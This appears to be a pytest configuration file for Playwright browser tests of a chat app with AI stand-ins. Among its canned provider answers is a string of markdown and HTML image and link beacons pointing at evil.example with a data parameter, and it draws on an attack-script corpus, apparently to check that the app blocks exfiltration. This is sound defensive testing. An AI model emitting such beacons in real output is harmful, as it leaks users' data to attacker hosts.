"""A real browser: a context of its own for each person, and an eye on all that goes wrong in it."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable, Generator, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright

from tests.ai_provider import Provider, start_provider
from tests.attacks.scripts import corpus
from tests.chat.stored import Documents, add_room, open_database
from tests.people import Person
from tests.server import ROOT, Server
from tests.system.pages import Chat
from tests.system.watch import Watch

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
# The same browser without its window, where it is installed: a page costs half as much in it.
WINDOWLESS = os.environ.get("CHROMIUM") or shutil.which("chromium-headless-shell") or CHROMIUM
# Chromium takes the last list alone, so here are Playwright's own as well. The first two are pages of the browser's
# window, which nobody sees: they would be loaded, into a process of their own, for each person of each test.
FEATURES_OFF = [
    "WebUIOmniboxPopup",
    "WebUIOmniboxAimPopup",
    "SpareRendererForSitePerProcess",
    "AvoidUnnecessaryBeforeUnloadCheckSync",
    "DestroyProfileOnBrowserClose",
    "HttpsUpgrades",
    "HttpsFirstBalancedModeAutoEnable",
    "LensOverlay",
    "MediaRouter",
    "PaintHolding",
    "ThirdPartyStoragePartitioning",
    "AvoidCorsURLLoaderRestartOnRedirect",
    "OptimizationHints",
    "NetworkTimeServiceQuerying",
    "AimEnabled",
    "PreconnectToSearch",
]
FLAGS = [
    f"--disable-features={','.join(FEATURES_OFF)}",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
RESULTS = ROOT / "test-results"
FAILED = pytest.StashKey[bool]()
BEACONS = (
    "A heron stands here ![x](https://evil.example/p.png?d=42) <img src='https://evil.example/q.png'> "
    "[more](https://evil.example/?d=42) //evil.example/r https://evil.example/s"
)
SCRIPTS = "\n".join(corpus()[::9])[:2_500]
# Of the second the price is known: ten dollars a million tokens, whichever way they go.
MODELS = {"OPENAI_MODELS": "gpt-4o-mini, gpt-4o", "STANDIN_MODEL_PRICES": "gpt-4o=10/10"}
ANSWERS = [
    {"match": {"userMessage": "pwned"}, "response": {"content": SCRIPTS}},
    {
        "match": {"userMessage": '{"n": 1,'},
        "response": {"content": "- The plan is asked for [1].\n- A stand-in said [9]."},
    },
    {
        "match": {"userMessage": "slowly"},
        "response": {"content": "One word after the other. " * 12},
        "chunkSize": 6,
        "latency": 150,
    },
    {"match": {"userMessage": "beacon"}, "response": {"content": BEACONS}},
    {"match": {"userMessage": "demo"}, "response": {"content": "Nadia wrote that the demo is ready."}},
    {"match": {}, "response": {"content": "I'll leave this for the person I stand in for."}},
]

expect.set_options(timeout=30_000)


@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item: pytest.Item) -> Generator[None, pytest.TestReport, pytest.TestReport]:
    report = yield
    item.stash[FAILED] = item.stash.get(FAILED, False) or report.failed
    return report


@pytest.fixture(scope="package")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:
        yield running


@pytest.fixture(scope="package")
def browser(playwright: Playwright) -> Iterator[Browser]:
    running = playwright.chromium.launch(executable_path=WINDOWLESS, args=FLAGS)
    yield running
    running.close()


@pytest.fixture(scope="package")
def whole_browser(playwright: Playwright) -> Iterator[Browser]:
    """With its window, for what needs one: without it there are no notifications, and no viewer of PDFs."""
    running = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
    yield running
    running.close()


@pytest.fixture(scope="package")
def provider() -> Iterator[Provider]:
    """What answers for the stand-ins."""
    running = start_provider(ANSWERS)
    yield running
    running.stop()


@pytest.fixture(scope="package")
def standin(provider: Provider, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One running Standin with a provider. All tests meet in its Lobby: who is mentioned needs a name of their own."""
    instance = tmp_path_factory.mktemp("standin")
    running = Server(instance, OPENAI_API_KEY="key", OPENAI_BASE_URL=provider.base_url, **MODELS).start()
    yield running
    assert running.stop() == 0, running.read_log()


@pytest.fixture
def meet(standin: Server) -> Callable[[str], Person]:
    """Sign somebody up over HTTP: `meet("Ada")`."""
    return lambda name: Person(standin.url, name)


@pytest.fixture(scope="package")
def documents(standin: Server) -> Iterator[Documents]:
    with open_database(standin) as database:
        yield database


@pytest.fixture
def den(documents: Documents) -> Callable[..., str]:
    """Make a closed room, with nothing said in it: `den(ada, bob)` is its path."""
    return lambda *members: f"/rooms/{add_room(documents, *members)}"


@pytest.fixture
def watch(request: pytest.FixtureRequest) -> Iterator[Watch]:
    """What the browsers complained of and asked for. A complaint that the test does not allow fails it."""
    watching = Watch()
    yield watching
    if not request.node.stash.get(FAILED, False):
        assert watching.complaints() == []
        assert watching.strangers() == set()


@pytest.fixture
def browse(watch: Watch, request: pytest.FixtureRequest) -> Iterator[Callable[..., Page]]:
    """A page in a new context, as of another person: `browse(url)`. Options are those of a context; `window=True` takes
    the browser that has all of its parts."""
    contexts: list[BrowserContext] = []

    def open_page(url: str, *, window: bool = False, **options: Any) -> Page:
        # A worker fetches everything that pages are made of: only tests that are about it let it.
        options = {
            "service_workers": "block",
            "locale": "en-GB",
            "timezone_id": "UTC",
            "reduced_motion": "reduce",
            **options,
        }
        window = window or "notifications" in options.get("permissions", ())
        browser: Browser = request.getfixturevalue("whole_browser" if window else "browser")
        contexts.append(browser.new_context(base_url=url, **options))
        watch.over(contexts[-1])
        watch.home(url)
        return contexts[-1].new_page()

    yield open_page
    if request.node.stash.get(FAILED, False) or watch.complaints():
        _picture(request.node.name, contexts)
    for context in contexts:
        context.close()


@pytest.fixture
def enter(browse: Callable[..., Page]) -> Callable[..., Chat]:
    """The chat page of somebody who is logged in, once it is connected: `enter(ada)`."""

    def open_chat(person: Person, path: str = "/", room: str = "Lobby", **options: Any) -> Chat:
        page = browse(person.url, **options)
        log_in(page.context, person)
        page.goto(path)
        chat = Chat(page, room)
        chat.expect_connection("Connected")
        return chat

    return open_chat


def log_in(context: BrowserContext, person: Person) -> None:
    """Give a context the cookies that the person got over HTTP. The browser has them from then on."""
    context.add_cookies(
        [
            {
                "name": cookie.name,
                "value": cookie.value or "",
                "domain": cookie.domain,
                "path": cookie.path,
                "httpOnly": cookie.has_nonstandard_attr("HttpOnly"),
                "sameSite": "Lax",
            }
            for cookie in person.http.cookies
        ]
    )


def _picture(test: str, contexts: list[BrowserContext]) -> None:
    RESULTS.mkdir(exist_ok=True)
    name = re.sub(r"\W+", "-", test).strip("-")
    pages = [page for context in contexts for page in context.pages]
    for number, page in enumerate(pages, 1):
        page.screenshot(path=Path(RESULTS, f"{name}-{number}.png"))
